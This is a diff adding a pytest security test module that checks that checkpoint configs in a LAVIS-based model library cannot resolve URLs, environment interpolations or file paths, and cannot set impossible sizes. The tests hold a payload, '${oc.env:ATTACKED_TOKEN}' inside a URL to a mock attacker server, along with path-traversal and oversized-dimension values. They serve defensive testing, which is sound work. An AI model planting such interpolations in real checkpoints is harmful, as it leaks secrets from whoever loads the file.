@@ -1,0 +1,231 @@
+"""The config that a checkpoint records is not trusted: only plain sizes of a real model are used,
+wherever a checkpoint is read; no interpolation, URL or path in it is resolved.
+"""
+
+from __future__ import annotations
+
+import copy
+import http.server
+import socket
+import threading
+from pathlib import Path
+
+import pytest
+import torch
+from lavis.common.registry import registry
+from omegaconf import OmegaConf
+
+import lavis_mafa
+from lavis_mafa.config.con_d import check_con_d
+from lavis_mafa.export.source import build_model
+from lavis_mafa.models.con_d.build import build_discriminator
+from lavis_mafa.models.recorded import MOST_PATCHES, recorded_model
+
+SECRET = "hunter2"
+
+
+@pytest.fixture(scope="module")
+def content():
+    """A checkpoint of the tiny model as the runner saves it, and its ``model`` config."""
+    cfg = OmegaConf.load(lavis_mafa.models.AlbefMafa.default_config_path("tiny")).model
+    torch.manual_seed(0)
+    model = lavis_mafa.models.AlbefMafa.from_config(cfg)
+    return {"model": model.state_dict(), "config": {"model": OmegaConf.to_container(cfg)}}
+
+
+@pytest.fixture
+def server(monkeypatch):
+    """The attacker's server: its port, and all that was asked of it."""
+    asked = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_error(404)
+
+        do_HEAD = do_GET
+
+        def log_message(self, *_):
+            pass
+
+    monkeypatch.setenv("ATTACKED_TOKEN", SECRET)
+    with http.server.ThreadingHTTPServer(("localhost", 0), Handler) as one:
+        thread = threading.Thread(target=one.serve_forever, daemon=True)
+        thread.start()
+        yield one.server_port, asked
+        one.shutdown()
+        thread.join()
+
+
+def readers(path):
+    """Every way of building a checkpoint's model, by name."""
+    con_d = {"arch": "albef_mafa", "model_type": "tiny", "checkpoint": str(path)}
+    return {
+        "load_model": lambda: lavis_mafa.load_model("albef_mafa", checkpoint=str(path)),
+        "load_model of a type": lambda: lavis_mafa.load_model(
+            "albef_mafa", "tiny", checkpoint=str(path)
+        ),
+        "Con-D": lambda: build_discriminator(con_d).model,
+        "export": lambda: build_model(str(path))[0],
+    }
+
+
+def saved(content, path, **model):
+    changed = {**content, "config": copy.deepcopy(content["config"])}
+    changed["config"]["model"].update(model)
+    torch.save(changed, path)
+    return path
+
+
+SECRET_URL = "http://localhost:{port}/${{oc.env:ATTACKED_TOKEN}}/{name}.json"
+PLACES = ["tokenizer", "med_config_path", "vit_weights", "bert_weights", "opt_model", "finetuned"]
+PLACES += ["pretrained", "prompt", "vit_type", "an_unknown_key", "q_former_config"]
+
+
+def test_server_of_this_test_would_learn_the_secret(server):
+    port, asked = server
+    url = OmegaConf.create({"a": SECRET_URL.format(port=port, name="a")}).a
+    with socket.create_connection(("localhost", port)) as client:
+        client.sendall(
+            f"GET {url[len('http://localhost:') + len(str(port)) :]} HTTP/1.0\r\n\r\n".encode()
+        )
+        client.recv(100)
+    assert asked == [f"/{SECRET}/a.json"]
+
+
+def test_no_url_or_interpolation_of_a_checkpoint_is_resolved(content, server, tmp_path, injected):
+    port, asked = server
+    for key in PLACES:
+        url = SECRET_URL.format(port=port, name=key)
+        for value in (url, {"deep": [url]}, {"name": url}):
+            changed = copy.deepcopy(content["config"])
+            changed["model"][key] = value
+            try:
+                found = recorded_model({**content, "config": changed}, "albef_mafa")
+            except ValueError as error:
+                assert f"model.{key} is" in str(error) and SECRET not in str(error)
+            else:
+                assert "oc.env" not in repr(found) and key not in ("tokenizer", "med_config_path")
+            injected("checkpoint that names a URL", 1)
+    assert asked == []
+
+
+@pytest.mark.parametrize("key", ["tokenizer", "vit_type"])
+def test_no_reader_resolves_a_url_or_interpolation(content, server, tmp_path, injected, key):
+    port, asked = server
+    path = saved(content, tmp_path / "c.pth", **{key: SECRET_URL.format(port=port, name=key)})
+    for name, read in readers(path).items():
+        if key == "tokenizer":
+            with pytest.raises(ValueError, match=f"c.pth contains .*model.{key} is") as caught:
+                read()
+            assert SECRET not in str(caught.value), name
+        else:
+            assert type(read()).__name__ == "AlbefMafa", name
+        assert asked == []
+        injected("checkpoint that names a URL", 1)
+
+
+@pytest.mark.parametrize("key", ["tokenizer", "med_config_path"])
+def test_no_path_of_a_checkpoint_is_opened_unless_the_user_names_it(
+    content, tmp_path, injected, key, monkeypatch
+):
+    shipped = Path(lavis_mafa.io.checkpoints.CONFIGS) / "models" / content["config"]["model"][key]
+    own = tmp_path / f"mine{shipped.suffix}"
+    own.write_bytes(shipped.read_bytes())
+    monkeypatch.chdir(tmp_path)
+    for place in (own.name, f"./{own.name}", f"../{tmp_path.name}/{own.name}", str(own)):
+        path = saved(content, tmp_path / "c.pth", **{key: place})
+        for read in readers(path).values():
+            with pytest.raises(ValueError, match=f"model.{key} is .*not followed"):
+                read()
+            injected("checkpoint that names a path", 1)
+        found = check_con_d({"arch": "albef_mafa", "model_type": "tiny", "checkpoint": str(path)})[
+            1
+        ]
+        assert len(found) == 1 and f"model.{key} is" in found[0] and "not followed" in found[0]
+    given = {key: str(own)}
+    con_d = {"arch": "albef_mafa", "model_type": "tiny", "checkpoint": str(path)}
+    models = [
+        lavis_mafa.load_model("albef_mafa", checkpoint=str(path), model=given),
+        build_discriminator({**con_d, "model": given}).model,
+        build_discriminator(con_d, known=given).model,
+        build_model(str(path), options=[f"{key}={own}"])[0],
+    ]
+    for model in models:
+        state = model.state_dict()
+        assert all(torch.equal(state[name], content["model"][name]) for name in state)
+
+
+SIZES = [
+    ("embed_dim", 10**9),
+    ("embed_dim", 0),
+    ("embed_dim", -5),
+    ("embed_dim", 64.0),
+    ("embed_dim", "64"),
+    ("embed_dim", True),
+    ("embed_dim", [64]),
+    ("image_size", 10**7),
+    ("queue_size", 2**40),
+    ("max_txt_len", 2**40),
+    ("vit", {"patch_size": 16, "width": 2**30, "depth": 3, "heads": 4}),
+    ("vit", {"patch_size": 16, "width": 64, "depth": 2**30, "heads": 4}),
+    ("vit", {"patch_size": 0, "width": 64, "depth": 3, "heads": 4}),
+    ("vit", "${oc.env:HOME}"),
+    ("vit", [16]),
+]
+
+
+@pytest.mark.parametrize("key, value", SIZES, ids=str)
+def test_sizes_out_of_range_are_refused(content, tmp_path, injected, monkeypatch, key, value):
+    def fail(*_, **__):
+        raise AssertionError("a model was built")
+
+    path = saved(content, tmp_path / "c.pth", **{key: value})
+    monkeypatch.setattr(lavis_mafa.models.AlbefMafa, "from_config", fail)
+    for name, read in readers(path).items():
+        with pytest.raises(ValueError, match=rf"c.pth contains .*model.{key}\S* is") as caught:
+            read()
+        assert "expected a" in str(caught.value), name
+        injected("checkpoint of impossible sizes", 1)
+    # The user's own value replaces it, and is what counts.
+    recorded_model(content, "albef_mafa", given={key: value})
+
+
+def test_position_embeddings_are_limited(content, tmp_path, injected):
+    """Each number is in range, but together they make an encoder of millions of patches."""
+    vit = {"patch_size": 1, "width": 2048, "depth": 1, "heads": 1}
+    path = saved(content, tmp_path / "c.pth", image_size=2048, vit=vit)
+    for read in readers(path).values():
+        with pytest.raises(ValueError, match=f"patches of 1 px, expected at most {MOST_PATCHES}"):
+            read()
+        injected("checkpoint of impossible sizes", 1)
+
+
+@pytest.mark.parametrize("odd", [["albef_mafa"], {"a": 1}, 3, None, "no_such_model", "${oc.env:A}"])
+def test_odd_names_of_models_are_ignored(content, tmp_path, odd):
+    for key in ("arch", "model_type"):
+        changed = copy.deepcopy(content["config"])
+        changed["model"][key] = odd
+        found = recorded_model({**content, "config": changed}, "albef_mafa")
+        assert not found if key == "arch" else "model_type" not in found
+        path = saved(content, tmp_path / "c.pth", **{key: odd})
+        with pytest.raises(ValueError, match="no config that names|no model named|has no type"):
+            build_model(str(path))
+
+
+def test_shipped_configs_are_used_as_recorded():
+    """Every size and file of a shipped model type passes, so that real checkpoints load."""
+    tried = 0
+    for arch in registry.list_models():
+        cls = registry.get_model_class(arch)
+        for model_type in getattr(cls, "PRETRAINED_MODEL_CONFIG_DICT", {}):
+            if not cls.__module__.startswith("lavis_mafa."):
+                continue
+            cfg = OmegaConf.to_container(OmegaConf.load(cls.default_config_path(model_type)).model)
+            found = recorded_model({"model": {}, "config": {"model": cfg}}, arch)
+            unused = {"mafa", "pretrained", "finetuned", "load_pretrained", "load_finetuned"}
+            # Settings of training with keys of their own.
+            assert cfg.keys() - found.keys() <= unused | {"posterior"}
+            assert all(found[name] == cfg[name] for name in found)
+            tried += 1
+    assert tried > 20
